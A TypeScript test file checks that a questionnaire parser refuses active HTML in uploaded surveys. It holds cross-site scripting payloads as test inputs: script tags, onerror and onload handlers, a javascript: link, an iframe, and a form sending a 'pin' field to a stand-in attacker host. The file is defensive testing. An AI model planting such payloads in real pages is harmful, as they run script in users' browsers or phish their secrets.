import { describe, expect, it } from 'vitest';
import { parseSurvey } from '../../functions/core/questionnaire/index.ts';

const question = { type: 'rating', name: 'q1', rateMin: 1, rateMax: 10 };
const withHtml = (html: unknown, extra: Record<string, unknown> = {}) => ({
  ...extra,
  pages: [{ name: 'p1', elements: [{ type: 'html', name: 'intro', html }, question] }],
});

describe('markup in an uploaded questionnaire', () => {
  it('accepts plain markup: text, emphasis, lists, https links and images', () => {
    const html = '<p>Välkommen! <strong>Tack</strong> <a href="https://example.org">läs mer</a></p><ul><li>a</li></ul>';
    expect(parseSurvey(withHtml(html)).ok).toBe(true);
    expect(parseSurvey(withHtml({ default: html, en: '<p>Welcome</p>' })).ok).toBe(true);
  });

  it.each([
    ['a script', '<p>hej</p><script>alert(1)</script>'],
    ['an event handler', '<img src="x" onerror="alert(1)">'],
    ['a javascript: link', '<a href="javascript:alert(1)">klicka</a>'],
    ['a form posting elsewhere', '<form action="https://evil.example"><input name="pin"></form>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ])('refuses %s in an html element, naming the element', (_what, html) => {
    const result = parseSurvey(withHtml(html));
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]!.field).toBe('pages[0].elements[0].html');
  });

  it('refuses active content in a localized text and in completedHtml', () => {
    const localized = parseSurvey(withHtml({ default: '<p>ok</p>', sv: '<svg onload="x()"></svg>' }));
    expect(localized.ok).toBe(false);
    if (!localized.ok) expect(localized.errors[0]!.field).toBe('pages[0].elements[0].html.sv');
    const completed = parseSurvey(withHtml('<p>ok</p>', { completedHtml: '<script>steal()</script>' }));
    expect(completed.ok).toBe(false);
    if (!completed.ok) expect(completed.errors.map((e) => e.field)).toContain('completedHtml');
  });
});
